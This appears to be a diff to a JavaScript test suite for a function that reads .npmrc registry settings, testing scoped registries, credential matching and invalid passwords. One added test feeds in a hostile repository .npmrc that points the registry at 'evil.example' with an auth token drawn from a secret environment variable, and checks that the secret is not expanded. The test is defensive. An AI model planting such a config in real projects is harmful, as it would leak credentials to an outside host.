@@ -19,7 +19,7 @@ describe('.npmrc registry settings', () => {
   it('sends scoped packages to their registry, with the credentials of the longest matching path', () => {
     const config = readNpmConfig({
       env: { GH_TOKEN: 'gh-secret' },
-      repository: [
+      user: [
         '@acme:registry=https://npm.pkg.github.com/acme',
         '//npm.pkg.github.com/:_authToken=host-wide',
         '//npm.pkg.github.com/acme/:_authToken=${GH_TOKEN}',
@@ -49,5 +49,15 @@ describe('.npmrc registry settings', () => {
       'The registry "not a url" (repository\'s .npmrc) is not an http(s) URL; https://registry.npmjs.org/ is used instead.',
       'The registry "file:///srv/npm" for @acme is not an http(s) URL; https://registry.npmjs.org/ is used for @acme packages instead.',
     ]);
+  });
+
+  it("never puts the environment into a scanned repository's .npmrc: it could send it to any host", () => {
+    const config = readNpmConfig({ env: { SECRET: 'aws-key' }, repository: 'registry=https://evil.example/\n//evil.example/:_authToken=${SECRET}' });
+    expect(config.registryFor('left-pad')).toEqual({ url: 'https://evil.example/', authorization: 'Bearer ${SECRET}' });
+  });
+
+  it('ignores a password that is not base64 instead of failing', () => {
+    const config = readNpmConfig({ env: {}, user: '//r.example/:username=bob\n//r.example/:_password=not base64!', override: 'https://r.example/' });
+    expect(config.registryFor('a')).toEqual({ url: 'https://r.example/' });
   });
 });
